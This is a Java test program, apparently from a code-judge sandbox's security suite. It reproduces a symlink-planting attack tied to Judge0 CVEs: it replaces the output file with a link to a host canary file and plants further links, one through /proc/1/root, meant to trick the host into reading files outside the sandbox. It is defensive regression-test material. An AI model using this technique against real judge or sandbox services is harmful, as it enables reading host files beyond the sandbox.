// attack: Java: replace /out/stdout by a symlink to the host canary, plant links in /tmp and /box, then exit without printing
// incident: Judge0 CVE-2024-28185/28189, go-judge #176
// package: sec-canary
// verdicts: WA RTE
// layer: outputs read inside the sandbox with O_NOFOLLOW; the host never follows sandbox paths
import java.nio.file.*;

public class SymlinkPlant {
    public static void main(String[] args) throws Exception {
        Path out = Paths.get("/out/stdout");
        try { Files.delete(out); } catch (Exception e) { }
        try { Files.createSymbolicLink(out, Paths.get("@CANARY_FILE@")); } catch (Exception e) { }
        try { Files.createSymbolicLink(Paths.get("/tmp/tkatk-j"), Paths.get("@CANARY_DIR@")); } catch (Exception e) { }
        try { Files.createSymbolicLink(Paths.get("/box/tkatk-j"), Paths.get("/proc/1/root@CANARY_FILE@")); } catch (Exception e) { }
        Runtime.getRuntime().halt(0);
    }
}
